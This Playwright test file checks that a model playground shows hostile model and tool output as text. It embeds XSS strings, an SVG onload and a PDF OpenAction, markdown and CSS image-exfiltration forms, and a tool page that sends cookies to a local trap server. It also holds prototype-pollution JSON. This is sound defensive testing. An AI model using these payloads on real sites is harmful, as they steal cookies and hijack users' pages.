// Is what models, tools and servers say only ever shown? Cases P21, P22, P23 and P25 of the public test plan.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import type { JsonObject } from "@/lib/protocol/json-object";
import {
  messageEvents,
  type ProviderStub,
  sse,
  startProviderStub,
  streamAnswer,
  toolUse,
} from "@/lib/server/testing/provider-stub";
import { expect, test } from "./fixtures";
import { markupCorpus } from "./markup-corpus";
import { Playground, type View } from "./playground";

const views: readonly View[] = ["Transcript", "Timeline", "Headers", "Log"];

/** Counts whoever asks for anything. */
let trap: Server;
let trapped: string[];
let trapURL: string;
let stub: ProviderStub | undefined;

test.beforeEach(async () => {
  trapped = [];
  trap = createServer((request, response) => {
    trapped.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  trapURL = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
});
test.afterEach(async () => {
  trap.closeAllConnections();
  trap.close();
  await stub?.close();
});

/** Says these blocks, then a last word. */
async function providerThatSays(blocks: readonly JsonObject[], stopReason: string): Promise<string> {
  stub = await startProviderStub([
    streamAnswer(sse(messageEvents(blocks, stopReason))),
    streamAnswer(sse(messageEvents([{ type: "text", text: "That was all." }], "end_turn"))),
  ]);
  return stub.baseURL;
}

/** Runs to the end. @returns the run's id */
async function run(page: Page, body: object): Promise<string> {
  const started = await page.request.post("/api/runs", { data: body });
  expect(started.status(), await started.text()).toBe(201);
  const { runId } = await started.json();
  await expect
    .poll(async () => (await (await page.request.get(`/api/runs/${runId}`)).json()).outcome, {
      timeout: 20_000,
    })
    .toBe("completed");
  return runId;
}

const fixedTool = (name: string, content: unknown, isError = false) => ({
  name,
  description: "Answers.",
  inputSchema: { type: "object" },
  handler: { kind: "fixed", content, isError },
});

/** What must not happen while the page is looked at. */
function watch(page: Page) {
  const seen = { dialogs: 0, popups: 0, foreign: [] as string[] };
  page.on("dialog", (dialog) => {
    seen.dialogs += 1;
    void dialog.dismiss();
  });
  page.on("popup", () => {
    seen.popups += 1;
  });
  page.on("request", (request) => {
    const own = /^(http:\/\/localhost:|data:|blob:)/.test(request.url());
    if (!own) seen.foreign.push(request.url());
  });
  return seen;
}

/** Brings everything that is drawn when it comes into view into view. */
async function scrollThrough(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const boxes = [...document.querySelectorAll("*")].filter(
      (box) =>
        box.scrollHeight > box.clientHeight + 20 && /auto|scroll/.test(getComputedStyle(box).overflowY),
    );
    for (const box of boxes) {
      for (let top = 0; top < box.scrollHeight && top < 30_000; top += Math.max(200, box.clientHeight)) {
        box.scrollTop = top;
        await new Promise((resolve) => requestAnimationFrame(() => resolve(undefined)));
      }
      box.scrollTop = 0;
    }
  });
}

async function lookAtAll(playground: Playground, runId: string): Promise<void> {
  await playground.open(`/runs/${runId}`);
  await playground.untilStatus("Completed");
  for (const view of views) {
    await playground.view(view);
    await scrollThrough(playground.page);
  }
}

/** Elements with a handler in an attribute, which this app never writes: text that was taken for markup. */
const smuggledIn = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll("*")]
      .filter((box) => box.getAttributeNames().some((name) => name.startsWith("on")))
      .map((box) => box.outerHTML.slice(0, 100)),
  );

const ran = (page: Page) => page.evaluate(() => "ran" in window || "polluted" in Object.prototype);

test("P21 markup-corpus: nothing of what models, tools and people write runs or is asked for", async ({
  page,
  context,
}) => {
  test.setTimeout(120_000);
  const corpus = markupCorpus(trapURL);
  expect(corpus.length).toBeGreaterThanOrEqual(60);
  const baseURL = await providerThatSays(
    [
      ...corpus.map((text) => ({ type: "text", text })),
      { type: "thinking", thinking: corpus.join("\n"), signature: "c2lnbmVk" },
      ...corpus.map((text, index) => toolUse(`toolu_echo_${index}`, "echo", { text, [text]: { text } })),
      ...corpus.map((text, index) => toolUse(`toolu_fail_${index}`, "fail", { text })),
      ...corpus.map((text, index) => toolUse(`toolu_name_${index}`, text, {})),
      {
        type: "mcp_tool_use",
        id: "mcptoolu_1",
        name: corpus[0],
        server_name: corpus[9],
        input: { x: corpus[10] },
      },
    ],
    "tool_use",
  );
  const title = `${corpus[9]}${corpus[0]}`;
  const runId = await run(page, {
    prompt: title,
    system: corpus.join("\n"),
    provider: { kind: "custom", baseURL },
    tools: [
      { ...fixedTool("echo", "{{input.text}}"), description: corpus.join(" ") },
      fixedTool("fail", "{{input.text}}", true),
      fixedTool("draw", "none"),
    ],
  });
  await page.request.patch(`/api/runs/${runId}`, { data: { name: title } });

  const seen = watch(page);
  const playground = new Playground(page);
  await lookAtAll(playground, runId);
  await playground.view("Transcript");
  // It is there to be read: letter by letter, as text.
  await expect(playground.turn(1)).toContainText("<script>window.ran=1;alert(1)</script>");
  const prompt = page.getByRole("region", { name: "Prompt" });
  await prompt.getByRole("button", { name: "System" }).click();
  await expect(prompt).toContainText(corpus.join("\n"));
  const echoes = playground.turn(1).getByRole("button", { name: /^Call echo/ });
  for (const call of [echoes.first(), echoes.nth(9)]) {
    await call.click();
    await expect(playground.inspector.getByText("Result", { exact: true })).toBeVisible();
    await expect(playground.inspector).toContainText("window.ran=1");
    await scrollThrough(page);
    expect(await smuggledIn(page)).toEqual([]);
  }
  for (const path of ["/runs", `/compare?runs=${runId},${runId}`, "/"]) {
    await page.goto(path);
    await scrollThrough(page);
    expect(await ran(page)).toBe(false);
  }
  expect(seen).toMatchObject({ dialogs: 0, popups: 0, foreign: [] });
  expect(trapped).toEqual([]);

  // Opened as addresses of their own: what the API says is no page either.
  for (const path of [
    `/api/runs/${runId}/log`,
    `/api/runs/${runId}`,
    `/api/runs?query=${encodeURIComponent(title)}`,
  ]) {
    const tab = await context.newPage();
    const there = watch(tab);
    // What is not drawn is saved, and ends the navigation.
    await tab.goto(path).catch(() => undefined);
    expect(there).toMatchObject({ dialogs: 0, foreign: [] });
    expect(await tab.evaluate(() => document.scripts.length)).toBe(0);
    await tab.close();
  }
  expect(trapped).toEqual([]);

  // And the corpus is not harmless in itself: where it is taken for markup, it runs.
  const control = await context.newPage();
  const there = watch(control);
  await control.setContent(
    corpus.filter((text) => text.startsWith("<img") || text.startsWith("<svg")).join(""),
  );
  await expect.poll(() => there.dialogs).toBeGreaterThan(0);
  await control.close();
  expect(trapped.length).toBeGreaterThan(0);
});

test("P21 markup-corpus: SVG and PDF are neither drawn nor opened as what they are", async ({ page }) => {
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${trapURL}/svg"/></svg>`,
  );
  const pdf = Buffer.from(`%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI(${trapURL}/pdf)>>>>endobj`);
  const source = (media_type: string, data: Buffer) => ({
    type: "base64",
    media_type,
    data: data.toString("base64"),
  });
  const baseURL = await providerThatSays([toolUse("toolu_a", "draw", {})], "tool_use");
  const runId = await run(page, {
    prompt: "Draw",
    provider: { kind: "custom", baseURL },
    tools: [
      fixedTool("draw", [
        { type: "image", source: source("image/svg+xml", svg) },
        { type: "document", source: source("application/pdf", pdf), title: "<b>Paper</b>" },
      ]),
    ],
  });
  const seen = watch(page);
  const playground = new Playground(page);
  await lookAtAll(playground, runId);
  await playground.view("Transcript");
  await playground
    .turn(1)
    .getByRole("button", { name: /^Call draw/ })
    .click();
  await expect(playground.inspector).toContainText("which is not drawn here");
  await expect(playground.inspector).toContainText("Binary content; not drawn.");
  expect(await page.locator("embed, object, iframe, img[src*='svg']").count()).toBe(0);
  expect(seen).toMatchObject({ dialogs: 0, foreign: [] });
  expect(trapped).toEqual([]);
});

test("P22 image-exfil: no form of an image, a style or a link is asked for before a click", async ({
  page,
}) => {
  const at = (name: string) => `${trapURL}/${name}?secret=1`;
  const texts = [
    `![inline](${at("inline")})`,
    `![reference][r]\n\n[r]: ${at("reference")}`,
    `[![nested](${at("nested")})](${at("link")})`,
    `<${at("autolink")}>`,
    at("bare"),
    `<img src="${at("img")}">`,
    `<img srcset="${at("srcset")} 1x">`,
    `<picture><source srcset="${at("source")}"><img></picture>`,
    `<video poster="${at("poster")}"></video>`,
    `<audio src="${at("audio")}" autoplay></audio>`,
    `<link rel="prefetch" href="${at("prefetch")}">`,
    `<link rel="preload" as="image" href="${at("preload")}">`,
    `<link rel="dns-prefetch" href="${trapURL}">`,
    `<style>*{background:url(${at("css")})}</style>`,
    `<p style="background:url(${at("style")})">x</p>`,
    `<svg><image href="${at("svg")}"/><feImage href="${at("fe")}"/></svg>`,
    `<input type="image" src="${at("input")}">`,
    `<table background="${at("table")}"><tr><td>x</table>`,
  ];
  const url = (type: string, name: string) => ({ type, source: { type: "url", url: at(name) } });
  const baseURL = await providerThatSays(
    [
      ...texts.map((text) => ({ type: "text", text })),
      {
        type: "text",
        text: "Cited",
        citations: [{ type: "web_search_result_location", url: at("cited"), title: "x" }],
      },
      toolUse("toolu_a", "look", { image: at("input-json"), texts }),
    ],
    "tool_use",
  );
  const runId = await run(page, {
    messages: [
      { role: "user", content: [url("image", "prompt-image"), { type: "text", text: texts.join("\n") }] },
    ],
    provider: { kind: "custom", baseURL },
    tools: [
      fixedTool("look", [
        url("image", "result-image"),
        url("document", "result-document"),
        ...texts.map((text) => ({ type: "text", text })),
      ]),
    ],
  });
  const seen = watch(page);
  const playground = new Playground(page);
  await lookAtAll(playground, runId);
  await playground.view("Transcript");
  await playground
    .turn(1)
    .getByRole("button", { name: /^Call look/ })
    .first()
    .click();
  await scrollThrough(page);
  await page.waitForTimeout(500);
  expect(seen.foreign).toEqual([]);
  expect(trapped).toEqual([]);
});

test("P23 tool-html: a page that a tool returns reaches nothing of this one", async ({ page }) => {
  const html = `<!doctype html><title>Result</title><body><script>
    const tell = (what) => { try { parent.ran = what } catch {} ; new Image().src = "${trapURL}/" + what };
    try { parent.document.title = "taken"; tell("parent") } catch {}
    try { tell("cookie-" + document.cookie) } catch {}
    try { localStorage.setItem("taken", "1"); tell("storage") } catch {}
    try { top.location = "${trapURL}/top" } catch {}
    try { window.open("${trapURL}/popup") } catch {}
    fetch("/api/runs").then((answer) => answer.text()).then(() => tell("api")).catch(() => {});
    fetch("/api/runs", { method: "POST", headers: { "content-type": "application/json" }, body: '{"prompt":"taken"}' });
  </script></body>`;
  const baseURL = await providerThatSays(
    [{ type: "text", text: html }, toolUse("toolu_a", "page", {})],
    "tool_use",
  );
  const runId = await run(page, {
    prompt: "A page, please",
    provider: { kind: "custom", baseURL },
    tools: [fixedTool("page", html)],
  });
  const before = (await (await page.request.get("/api/runs?query=taken")).json()).runs.length;
  const seen = watch(page);
  const playground = new Playground(page);
  await lookAtAll(playground, runId);
  const address = page.url();
  await playground.view("Transcript");
  await playground
    .turn(1)
    .getByRole("button", { name: /^Call page/ })
    .click();
  await scrollThrough(page);
  await page.waitForTimeout(500);
  // Shown as text. Should a frame ever show it, its origin has to be none.
  for (const frame of page.frames().slice(1)) expect(await frame.evaluate(() => self.origin)).toBe("null");
  expect(await ran(page)).toBe(false);
  expect(await page.title()).not.toContain("taken");
  expect(await page.evaluate(() => localStorage.getItem("taken"))).toBeNull();
  expect(new URL(page.url()).pathname).toBe(new URL(address).pathname);
  expect(seen).toMatchObject({ dialogs: 0, popups: 0, foreign: [] });
  expect(trapped).toEqual([]);
  expect((await (await page.request.get("/api/runs?query=taken")).json()).runs.length).toBe(before);
});

test("P25 pollution: a run full of prototypes is shown, and sent exactly as typed", async ({ page }) => {
  const hostile =
    '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"a.__proto__.polluted":1}';
  const baseURL = await providerThatSays(
    [toolUse("toolu_a", "echo", JSON.parse(hostile)), { type: "text", text: hostile }],
    "tool_use",
  );
  const body = `{"prompt":"Go","params":{"metadata":${hostile}},"provider":{"kind":"custom","baseURL":"${baseURL}"},
    "tools":[{"name":"echo","description":"Echoes.","inputSchema":{"type":"object","properties":${hostile.replaceAll("1", "{}")}},
    "handler":{"kind":"fixed","content":"{{input.__proto__.polluted}} {{input.constructor.prototype.polluted}}"}}]}`;
  const started = await page.request.post("/api/runs", {
    headers: { "content-type": "application/json" },
    data: Buffer.from(body),
  });
  expect(started.status(), await started.text()).toBe(201);
  const { runId } = await started.json();
  const playground = new Playground(page);
  await lookAtAll(playground, runId);
  expect(await ran(page)).toBe(false);
  const first = JSON.stringify(stub?.received[0]?.body);
  expect(first).toContain(`"metadata":${hostile}`);
  expect(first).toContain(hostile.replaceAll("1", "{}"));
  // The model's own input goes back as it came.
  expect(JSON.stringify(stub?.received[1]?.body)).toContain(`"input":${hostile}`);

  // The same as a stored setup, and as a file that is taken in.
  await page.evaluate((text) => {
    for (const key of Object.keys(localStorage)) localStorage.setItem(key, text);
  }, `{"state":${hostile},"__proto__":{"polluted":1}}`);
  await page.goto("/");
  await expect(playground.run).toBeVisible();
  expect(await ran(page)).toBe(false);
  const log = await (await page.request.get(`/api/runs/${runId}/log`)).text();
  const taken = await page.request.post("/api/runs/import", {
    headers: { "content-type": "application/x-ndjson" },
    data: Buffer.from(log),
  });
  expect([200, 201, 409, 415]).toContain(taken.status());
});
